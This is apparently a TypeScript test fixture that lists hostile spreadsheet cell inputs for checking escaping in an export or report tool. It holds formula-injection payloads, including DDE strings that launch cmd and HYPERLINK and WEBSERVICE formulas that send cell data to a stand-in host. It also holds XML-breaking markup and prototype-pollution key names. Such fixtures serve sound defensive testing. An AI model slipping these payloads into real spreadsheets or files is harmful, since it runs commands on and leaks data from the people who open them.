/** Texts that try to be more than text in a cell: formulas in every disguise, escapes of the format itself, characters that XML forbids, names that objects have. */
import { hostile } from '../report/hostile.ts';

const call = "cmd|'/C calc'!A0";

const formulas = [
  '=1+1',
  `=${call}`,
  `+${call}`,
  `-${call}`,
  `@SUM(${call})`,
  '=HYPERLINK("http://canary.test/"&A1,"open")',
  '=WEBSERVICE("http://canary.test/"&A1)',
  '=IMPORTXML("http://canary.test/","//a")',
  '=IMAGE("http://canary.test/x.png")',
  '=DDE("cmd";"/C calc";"x")',
  "=IMPORTDATA('http://canary.test')",
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
  ' =1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  "'=1+1",
  "''=1+1",
  "'''-1",
  "'",
  "''",
  "'plain",
  "it's =1",
  '-',
  '=',
  '+',
  '@',
  '- a list\n- of lines',
  'a;=1+1',
  "a;'=1+1",
  'a,=1+1',
  `x";=${call};"`,
  `a\n=${call};b`,
  `a\r\n+${call}`,
  'a\t@SUM(1)',
  '"=1+1"',
  '""=1+1',
  '",=1+1,"',
  '|=1+1',
  '{=1+1}',
  '=-1',
  '=+@-1',
];

const csv = ['"', '""', 'a"b', ',', ';', 'a,b', 'a\nb', 'a\r\nb', 'a\rb', '\n', ' leading', 'trailing ', '\\"', 'sep=;', '#VALUE!', '#REF!'];

const workbookEscapes = [
  '_x0041_',
  '_x005F_x0041_',
  '_x005f_',
  '__x0000__',
  '_x004',
  '_x0041_x0042_',
  '_x0041\u0001',
  '_x000D_\r',
  '_X0041_',
  '_',
  '_x',
];

const characters = [
  ...Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`),
  ...Array.from({ length: 33 }, (_, at) => `a${String.fromCharCode(0x7f + at)}b`),
  '\ud800',
  'a\udc00b',
  '\udc00\ud800',
  '\ufdd0\ufdef',
  '\ufffd\ufffe\uffff',
  '\u{1fffe}\u{1ffff}\u{10ffff}',
  '\u202e\u2066\u2069\u200f',
  '👩‍👩‍👧‍👦 漢字 العربية',
  ']]>',
  '<![CDATA[x]]>',
  '&#0;&#x1F;&amp;',
  '<f>1+1</f>',
  '</t></si><si><t>',
  '</v></c><c t="str"><f>1+1</f>',
];

const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'isPrototypeOf',
  'null',
  'undefined',
  'NaN',
  'TRUE',
];
const numbers = ['1', '1.0', '007', '1e5', '2026-11-23', '1/2', '12:30', '0x10', '+41 61 000 00 00'];

/** Every text once. */
export const hostileCells: readonly string[] = [
  ...new Set([...formulas, ...csv, ...workbookEscapes, ...characters, ...names, ...numbers, ...hostile]),
].filter((text) => text !== '');
